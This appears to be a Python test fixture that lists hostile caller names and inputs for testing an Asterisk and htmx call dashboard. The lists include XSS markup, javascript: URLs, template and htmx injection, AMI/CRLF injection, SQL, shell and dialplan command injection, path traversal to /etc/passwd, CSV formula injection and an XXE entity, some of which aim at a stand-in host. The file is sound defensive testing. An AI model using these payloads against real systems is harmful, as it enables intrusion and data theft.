"""Texts that an attacker may use as their name, or type. Each does its worst where
it is taken for more than text: it sets `window.pwned`, opens a dialog, asks another host, or breaks the layout.
"""

from dataclasses import dataclass

# No name in here can be reached; a request to it is a failed test.
EVIL = "evil.invalid"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A text, and what of it may be seen.

    `raw` is what it is in bytes. `shown` is how it reads as a name; `line` what is left of it where Asterisk cuts
    it at its first line break, which it does everywhere but in names.
    """

    label: str
    raw: bytes
    shown: str
    line: str

    @property
    def text(self) -> str:
        return self.raw.decode("utf-8", "replace")


def _hostile(label: str, raw: str | bytes, shown: str | None = None, line: str | None = None) -> Hostile:
    encoded = raw if isinstance(raw, bytes) else raw.encode()
    seen = encoded.decode("utf-8", "replace") if shown is None else shown
    return Hostile(label, encoded, seen, seen if line is None else line)


_MARKUP = {
    "script": "<script>window.pwned=1</script>",
    "script from elsewhere": f"<script src=//{EVIL}/x.js></script>",
    "script in odd case": "<ScRiPt>window.pwned=1</sCrIpT>",
    "script that nests": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "script that ends one": "</script><script>window.pwned=1</script>",
    "module": "<script type=module>window.pwned=1</script>",
    "image with handler": "<img src=x onerror=window.pwned=1>",
    "image of elsewhere": f"<img src=//{EVIL}/x.png>",
    "image without spaces": "<img/src='x'/onerror=alert(1)>",
    "svg with handler": "<svg onload=window.pwned=1>",
    "svg with script": "<svg><script>window.pwned=1</script></svg>",
    "svg that animates": "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "body": "<body onload=window.pwned=1>",
    "details": "<details open ontoggle=window.pwned=1>x</details>",
    "autofocus": "<input autofocus onfocus=window.pwned=1>",
    "video": "<video><source onerror=window.pwned=1>",
    "frame": "<iframe src=javascript:parent.pwned=1></iframe>",
    "frame with document": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "object": f"<object data=//{EVIL}/x></object>",
    "link": "<a href=javascript:window.pwned=1>click</a>",
    "base": f"<base href=//{EVIL}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    "style": "<style>*{display:none!important}</style>",
    "style of elsewhere": f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "form": f"<form action=//{EVIL}/><button>Log in</button></form>",
    "comment left open": "<!-- and all that follows",
    "cdata": "<![CDATA[<script>window.pwned=1</script>]]>",
    "doctype": "<!doctype html><title>x</title>",
    "plaintext": "<plaintext>",
    "textarea left open": "<textarea>",
    "tag left open": "<img title='",
    "many closing tags": "</bdi></div></div></article></main></body></html>",
    "out of a list": "</bdi></span></li></ul><h1>Owned</h1>",
    "out of a table": "</td></tr></table><h1>Owned</h1>",
    "slot": "<slot name=x><template shadowrootmode=open><h1>Owned</h1></template>",
    "out of double quotes": '" onmouseover="window.pwned=1" x="',
    "out of single quotes": "' onfocus='window.pwned=1' autofocus='",
    "out of an attribute": '"><script>window.pwned=1</script>',
    "out of backticks": "` onmouseover=window.pwned=1 `",
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "entities by number": "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "entity left open": "&lt &amp &quot",
    "script by percent": "%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E",
    "script by unicode escape": "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "script in full width": "＜script＞window.pwned=1＜/script＞",
    "script in UTF-7": "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
}
_URLS = {
    "javascript": "javascript:window.pwned=1",
    "javascript in odd case": "jAvAsCrIpT://%0awindow.pwned=1",
    "data": "data:text/html,<script>window.pwned=1</script>",
    "elsewhere": f"https://{EVIL}/",
    "elsewhere without scheme": f"//{EVIL}/x",
    "elsewhere by backslash": f"/\\{EVIL}/x",
    "elsewhere by user": f"https://127.0.0.1@{EVIL}/",
    "telephone": "tel:+49190666666",
}
_TEMPLATES = {
    "django variable": "{{ settings.SECRET_KEY }}",
    "django tag": "{% load static %}{% include '/etc/passwd' %}",
    "jinja": "{{ ''.__class__.__mro__ }}",
    "template literal": "${window.pwned=1}",
    "erb": "<%= 7*7 %>",
    "angular": "{{constructor.constructor('window.pwned=1')()}}",
    "vue": "<div v-html='x' @click='window.pwned=1'>",
    "python format": "%(password)s %s {0.__class__} %d",
}
_HTMX = {
    "hx-get": f"<div hx-get=//{EVIL}/x hx-trigger=load>",
    "hx-post": '<b hx-post="/logout/" hx-trigger="load">x</b>',
    "hx-on": "<b hx-on:click=window.pwned=1 hx-on::load=window.pwned=1>",
    "hx-on in data": "<b data-hx-on--load='window.pwned=1'>",
    "hx-vals": "<b hx-vals='js:{x: window.pwned=1}' hx-get=/ hx-trigger=load>",
    "hx-partial": '<hx-partial hx-target="body" hx-swap="innerHTML">Owned</hx-partial>',
    "hx-partial left open": '</hx-partial><hx-partial hx-target="#toasts">',
    "hx-swap-oob": '<div id="toasts" hx-swap-oob="true">Owned</div>',
    "template": '<template hx type="partial"><h1>Owned</h1></template>',
    "hx-ws": f'<div hx-ws:connect="wss://{EVIL}/">',
    "row that is gone": '<i id="calls" data-gone></i>',
    "row that is put": '<i id="call-main-x" data-order="0">Owned</i>',
    "event of htmx": "htmx:after:swap dialled",
}
_CLOBBERING = {
    "id toasts": "<i id=toasts>",
    "name of a form": "<form id=htmx><input name=config></form>",
    "id of a body's": "<img name=body><img id=documentElement>",
    "selector": "#calls, .call, [data-action]",
    "selector left open": "#x[y='",
    "css": "</style>}*{display:none}",
    "css url": f"background:url(//{EVIL}/x)",
}
_UNICODE: list[tuple[str, str | bytes, str | None]] = [
    ("right to left", "\u202etxt.exe\u202c", "txt.exe"),
    ("right to left isolated", "\u2067101\u2069\u200f", "101"),
    ("direction left open", "a\u202db\u2066c", "abc"),
    ("arabic", "\u0645\u0631\u062d\u0628\u0627 101", None),
    ("hebrew with digits", "\u05e9\u05dc\u05d5\u05dd 0401", None),
    ("zero width", "An\u200bna\u2060 Al\ufeffpha", "Anna Alpha"),
    ("nothing but zero width", "\u200b\u200b\u2060", ""),
    ("nothing but joiners", "\u200d\u200c\u200d", ""),
    ("nothing but fillers", "\u3164\u115f\u2800", ""),
    ("soft hyphen", "An\u00adna", "Anna"),
    ("byte order mark", "\ufeffAnna", "Anna"),
    ("flood of marks", "Z" + "\u0300\u0323\u0489" * 20, "Z\u0300\u0323\u0489\u0300"),
    ("marks without a letter", "\u0300" * 30, ""),
    ("towers of marks", "a" + "\u0310" * 15 + "b" + "\u0311" * 15, "a" + "\u0310" * 4 + "b" + "\u0311" * 4),
    ("composed apart", "Zoe\u0308 Zu\u0308rcher", None),
    ("family", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", None),
    ("flag", "\U0001f1e9\U0001f1ea", None),
    ("emoji with selector", "\u2764\ufe0f\u200d\U0001f525", None),
    ("four bytes", "\U00020000\U0001f600\U0010fffd", None),
    ("next line", "a\u0085b", "ab"),
    ("line separator", "a\u2028b\u2029c", "abc"),
    ("C1 controls", "a\u0090b\u009bc", "abc"),
    ("terminal escape", "\x1b[2J\x1b]0;owned\x07x", "[2J]0;ownedx"),
    ("bell and backspace", "\x07An\x08\x08na", "Anna"),
    ("delete", "An\x7fna", "Anna"),
    ("tags of plane 14", "A\U000e0061\U000e0062", "A"),
    ("homograph", "\u0410nn\u0430 \u0391lph\u0430", None),
    ("ligature that grows", "\ufdfa" * 8, None),
    ("cuneiform that is wide", "\U00012031" * 6, None),
    ("persian", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", None),
    ("chinese", "李雷与韩梅梅", None),
    ("turkish i", "\u0130STANBUL \u0131", None),
    ("no characters", "\ufffe\uffff\ufdd0", None),
    ("half of a pair as bytes", b"a\xed\xa0\x80b", "a\ufffd\ufffd\ufffdb"),
    ("latin 1", b"Z\xfcrcher", "Z\ufffdrcher"),
    ("overlong slash", b"\xc0\xaf..\xc0\xaf", "\ufffd\ufffd..\ufffd\ufffd"),
    ("cut character", b"Zo\xc3", "Zo\ufffd"),
    ("bytes of no encoding", b"\xff\xfe\x81", "\ufffd\ufffd\ufffd"),
]
_LINES: list[tuple[str, str, str, str | None]] = [
    ("CR LF", "a\r\nb", "ab", "a"),
    ("LF", "a\nb", "ab", None),
    ("CR", "a\rb", "ab", None),
    ("NUL", "a\0b", "ab", None),
    ("tabs", "a\tb", "ab", None),
    ("blanks around", " \ta b ", "a b", None),
    ("AMI action", "1\r\nAction: Hangup\r\nChannel: /.*/\r\n\r\n", "1Action: HangupChannel: /.*/", "1"),
    ("AMI action by LF", "1\nAction: Hangup\nChannel: /.*/\n\n", "1Action: HangupChannel: /.*/", None),
    ("AMI event", "1\r\n\r\nEvent: Hangup\r\nUniqueid: bystander", "1Event: HangupUniqueid: bystander", "1"),
    ("AMI end of a conference", "1\r\n\r\nEvent: ConfbridgeEnd\r\nConference: 8001",
     "1Event: ConfbridgeEndConference: 8001", "1"),
    ("AMI field", "1\r\nUniqueid: bystander\r\nLinkedid: bystander", "1Uniqueid: bystanderLinkedid: bystander", "1"),
    ("AMI end of a snapshot", "1\r\nLinkedid: x\r\n\r\nEvent: X\r\nA: b", "1Linkedid: xEvent: XA: b", "1"),
    ("AMI response", "1\r\n\r\nResponse: Goodbye\r\n\r\n", "1Response: Goodbye", "1"),
    ("HTTP header", "x\r\nSet-Cookie: sessionid=1", "xSet-Cookie: sessionid=1", "x"),
    ("end of a command", "--END COMMAND--\r\n\r\n", "--END COMMAND--", None),
]  # fmt: skip
_OTHERS = {
    "AMI action by percent": "1%0d%0aAction:%20Hangup%0d%0aChannel:%20x%0d%0a%0d%0a",
    "AMI words": "Event: Hangup",
    "sql": "'; DROP TABLE calls_channel; --",
    "sql or": "' OR '1'='1",
    "sql like": "%_%' ESCAPE '\\",
    "shell": "$(touch /tmp/pwned)`touch /tmp/pwned`; touch /tmp/pwned",
    "shell option": "-rf --help",
    "dialplan function": "${SHELL(touch /tmp/pwned)}",
    "dialplan expression": "$[1 + 1]${CHANNEL}${EXTEN}",
    "dialplan ampersand": "101&Local/602@internal",
    "dialplan comma": "101,102,1",
    "dialplan pattern": "_X.",
    "regular expression": "/.*/",
    "regular expression that is slow": "(a+)+$",
    "path": "../../../../etc/passwd",
    "path by percent": "..%2f..%2f..%2fetc%2fpasswd",
    "path of windows": "..\\..\\..\\boot.ini",
    "path separators": "a/b?c#d%e.f;g",
    "dots": "..",
    "tildes": "~~s~/~d",
    "csv by =": "=cmd|' /C calc'!A0",
    "csv by +": "+1+cmd|' /C calc'!A0",
    "csv by -": "-1+1|cmd",
    "csv by @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv quotes": '","","=1+1"',
    "json": '{"type": "live.batch", "pbx": "main"}',
    "json left open": '"],"rows":[{"id":"x"',
    "prototype": "__proto__",
    "constructor": "constructor.prototype.pwned=1",
    "xml": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "quotes": 'O\'Brien "Bob" \u201cx\u201d',
    "question": "Who? What?? (a|b)",
    "backslashes": "C:\\new\\table\\'\\\"\\\\",
    "sip": '"Anna" <sip:101@evil.invalid;x=y>;tag=1',
    "caller id": '"Anna Alpha" <101>',
    "unknown in a text": "x <unknown>",
    "null": "null",
    "undefined": "undefined",
    "NaN": "NaN",
    "None": "None",
    "zero": "0",
    "conference's page": "main/8001",
    "very long": "long " * 2000,
    "very long word": "W" * 10_000,
    "very long in Chinese": "很" * 3400,
}
# Asterisk's own word for nothing.
_UNKNOWN = _hostile("unknown", "<unknown>", "")


def _cut(label: str, text: str) -> Hostile:
    return _hostile(label, text, text[:150].strip())


TEXTS: list[Hostile] = [
    *(_cut(label, text) for group in (_MARKUP, _URLS, _TEMPLATES, _HTMX, _CLOBBERING) for label, text in group.items()),
    *(_hostile(*values) for values in _UNICODE),
    *(_hostile(*values) for values in _LINES),
    *(_cut(label, text) for label, text in _OTHERS.items()),
    _UNKNOWN,
]
